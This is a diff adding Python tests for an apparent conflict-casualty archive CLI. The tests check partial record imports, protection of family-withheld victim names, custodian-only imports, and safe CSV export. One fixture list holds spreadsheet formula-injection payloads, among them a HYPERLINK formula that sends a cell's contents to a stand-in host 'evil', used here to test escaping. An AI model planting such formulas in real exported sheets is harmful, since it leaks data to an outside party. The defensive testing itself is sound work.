@@ -414,3 +414,144 @@ def test_bad_vocab_files_are_refused(cli: Cli, tmp_path: Path, content: str, par
     _, _, err = cli("vocab", "load", _write(tmp_path, "bad.json", content), expect=2)
     assert part in err
     assert _counts(cli.home) == before
+
+
+def test_a_column_the_file_does_not_have_leaves_the_field_unchanged(db_cli: Cli, tmp_path: Path) -> None:
+    """A small sheet (the required columns, or ref + one fix) changes only what it holds; a new record gets the
+    defaults. Leaving out `name_withheld` never lifts a family's request (the next export would publish it)."""
+    _good(db_cli, tmp_path)
+    before = _states(db_cli.home)
+    small = "ref,type,started_at,governorate,attribution\n" \
+        "INC-1,killing,2023-12-09T14:30,idlib,syrian_regime\nINC-9,killing,2023-12-01,idlib,isis\n"
+    report, _ = _import(db_cli, "--incidents", _write(tmp_path, "pi.csv", small),
+                        "--victims", _write(tmp_path, "pv.csv", "ref,incident_ref,sex,civilian,date_documented,age\n"
+                                            "VIC-2,INC-1,female,true,2023-12-10,\n"
+                                            "VIC-3,INC-1,female,true,2024-01-05,35\n"))
+    assert (report["incidents"]["updated"], report["incidents"]["created"]) == (1, 1)
+    after = _states(db_cli.home)
+    assert after["incident INC-1"] == {**before["incident INC-1"], "attribution": "syrian_regime"}
+    assert after["incident INC-9"]["narrative"] is None and after["incident INC-9"]["started_precision"] == "day"
+    assert after["victim VIC-2"] == before["victim VIC-2"]  # an empty age cell of a present column: still empty
+    assert report["victims"]["unchanged"] == 1 and report["victims"]["updated"] == 1
+    assert after["victim VIC-3"] == {**before["victim VIC-3"], "age": 35}
+    assert after["victim VIC-3"]["name"] == WITHHELD and after["victim VIC-3"]["name_withheld"] is True
+    out = tmp_path / "out.csv"
+    db_cli("export-records", "--victims", str(out))
+    assert WITHHELD not in out.read_text(encoding="utf-8")
+
+    # JSON Lines: a key left out is a column not given; null is the column given empty.
+    line = {"ref": "VIC-1", "incident_ref": "INC-1", "sex": "male", "civilian": True, "date_documented": "2023-12-10",
+            "age_group": None}
+    _import(db_cli, "--format", "jsonl", "--victims", _write(tmp_path, "v.jsonl", json.dumps(line) + "\n"))
+    now = _states(db_cli.home)["victim VIC-1"]
+    assert now == {**after["victim VIC-1"], "age_group": None} and now["name"] == "محمد أحمد"
+
+
+def test_lifting_a_withheld_name_needs_the_name(db_cli: Cli, tmp_path: Path) -> None:
+    """`name_withheld=false` with an empty name would erase what the family gave: refused, nothing written."""
+    _good(db_cli, tmp_path)
+    before, counts = _states(db_cli.home), _counts(db_cli.home)
+    header = "ref,incident_ref,name,name_withheld,sex,civilian,date_documented\n"
+    for row in ("VIC-3,INC-1,,false,female,true,2024-01-05\n", "VIC-3,INC-1,  ,false,female,true,2024-01-05\n"):
+        report, err = _import(db_cli, "--victims", _write(tmp_path, "lift.csv", header + row), expect=1)
+        assert "to lift a withheld name, give the name" in err and report["imported"] is False
+        assert _states(db_cli.home) == before and _counts(db_cli.home) == counts
+    # Without the name column the name stays, and so does the withholding unless the row lifts it with the name.
+    _import(db_cli, "--victims", _write(tmp_path, "keep.csv", "ref,incident_ref,sex,civilian,date_documented\n"
+                                        "VIC-3,INC-1,female,true,2024-01-05\n"))
+    assert _states(db_cli.home) == before
+    _import(db_cli, "--victims", _write(tmp_path, "lift2.csv", header + f"VIC-3,INC-1,{WITHHELD},false,female,true,"
+                                        "2024-01-05\n"))
+    assert _states(db_cli.home)["victim VIC-3"] == {**before["victim VIC-3"], "name_withheld": False}
+
+
+def test_only_a_custodian_imports(db_cli: Cli, tmp_path: Path) -> None:
+    """A row may rewrite or lift a withheld name, which only a custodian sees: investigators may export, not
+    import (the review's probe: an investigator's own export with a guessed name filled in)."""
+    from archive.context import Archive
+    from archive.roles import Role
+    from archive.services.errors import Forbidden
+    from archive.services.records_io import export_records, import_records
+
+    _good(db_cli, tmp_path)
+    before, counts = _states(db_cli.home), _counts(db_cli.home)
+    archive = Archive.open(db_cli.home, "tester")
+    try:
+        out = tmp_path / "mine.csv"
+        assert export_records(archive, victims=out, role=Role.INVESTIGATOR)["victims"]["rows"] == 4
+        guessed = out.read_text(encoding="utf-8").replace("VIC-3,INC-1,,true", f"VIC-3,INC-1,{WITHHELD},true")
+        for role in (Role.INVESTIGATOR, Role.CONTRIBUTOR):
+            with pytest.raises(Forbidden, match="custodian"):
+                import_records(archive, victims=_write(tmp_path, "guess.csv", guessed), role=role)
+    finally:
+        archive.close()
+    assert _states(db_cli.home) == before and _counts(db_cli.home) == counts
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&C3,"open")', "+cmd", "-2+3", "@SUM(A1)", "'=already quoted", "''@x",
+            "'plain", "-12.5x"]
+
+
+def test_export_is_safe_to_open_in_a_spreadsheet_and_round_trips(db_cli: Cli, tmp_path: Path) -> None:
+    """Formula-like cells are written with one leading `'` (a plain number is not); reading drops exactly that
+    one, so the export imports as the same text and exports byte-identically again."""
+    import csv
+    import io
+
+    from archive.records.interchange import escape, unescape
+
+    for text_ in [*FORMULAS, "-12.5", "+5", "", "'", "a=b", "\t1"]:
+        assert unescape(escape(text_)) == text_
+    assert escape("-12.5") == "-12.5" and escape("=1") == "'=1" and escape("'=1") == "''=1"
+    def sheet(header: list[str], rows: list[list[str]]) -> str:  # as an export writes it: escaped
+        buffer = io.StringIO()
+        csv.writer(buffer, lineterminator="\n").writerows([header, *([escape(c) for c in r] for r in rows)])
+        return buffer.getvalue()
+
+    incidents = sheet(["ref", "type", "started_at", "governorate", "attribution", "place", "narrative"],
+                      [[v, "killing", "2023-12-09", "idlib", "isis", v, f"n{i}"] for i, v in enumerate(FORMULAS)])
+    victims = sheet(["ref", "incident_ref", "name", "sex", "civilian", "date_documented", "consent_recorded_by",
+                     "family_consent", "consent_date"],
+                    [[f"V{i}", v, v, "male", "true", "2023-12-10", v, "yes", "2023-12-10"]
+                     for i, v in enumerate(FORMULAS)])
+    _import(db_cli, "--incidents", _write(tmp_path, "f-i.csv", incidents),
+            "--victims", _write(tmp_path, "f-v.csv", victims))
+    states = _states(db_cli.home)
+    assert {states[f"victim V{i}"]["name"] for i in range(len(FORMULAS))} == set(FORMULAS)
+    inc, vic = tmp_path / "e-i.csv", tmp_path / "e-v.csv"
+    db_cli("export-records", "--incidents", str(inc), "--victims", str(vic))
+    for path in (inc, vic):
+        for row in list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))[1:]:
+            assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row if c not in ("", "-12.5"))
+    first = inc.read_bytes(), vic.read_bytes()
+    report, _ = _import(db_cli, "--incidents", str(inc), "--victims", str(vic))
+    assert report["incidents"]["event"] is None and report["victims"]["event"] is None
+    assert _states(db_cli.home) == states
+    db_cli("export-records", "--incidents", str(inc), "--victims", str(vic), "--force")
+    assert (inc.read_bytes(), vic.read_bytes()) == first
+
+
+def test_export_never_overwrites_without_force_and_writes_owner_only(db_cli: Cli, tmp_path: Path) -> None:
+    """The team's own sheet is not replaced silently; a missing folder is a one-line error; the file is 0600,
+    written through a fresh exclusive file (never a planted link), and nothing is left behind on failure."""
+    import os
+    import stat
+
+    _good(db_cli, tmp_path)
+    keep = tmp_path / "keep.csv"
+    keep.write_text("the team's sheet\n", encoding="utf-8")
+    _, _, err = db_cli("export-records", "--incidents", str(tmp_path / "new.csv"), "--victims", str(keep), expect=2)
+    assert "exists already; give --force" in err and "internal error" not in err
+    assert keep.read_text(encoding="utf-8") == "the team's sheet\n" and not (tmp_path / "new.csv").exists()
+    _, _, err = db_cli("export-records", "--incidents", str(tmp_path / "nowhere" / "x.csv"), expect=2)
+    assert "does not exist" in err and "internal error" not in err
+    _, _, err = db_cli("export-records", "--incidents", str(tmp_path), expect=2)
+    assert "is a folder" in err
+    victim = tmp_path / "attacker.txt"
+    victim.write_text("", encoding="utf-8")
+    os.symlink(victim, tmp_path / "ex.csv.part")  # the old fixed name: no longer used, never followed
+    db_cli("export-records", "--victims", str(keep), "--incidents", str(tmp_path / "ex.csv"), "--force")
+    assert victim.read_text(encoding="utf-8") == "" and not (tmp_path / "ex.csv").is_symlink()
+    for path in (keep, tmp_path / "ex.csv"):
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".part")) == ["ex.csv.part"]
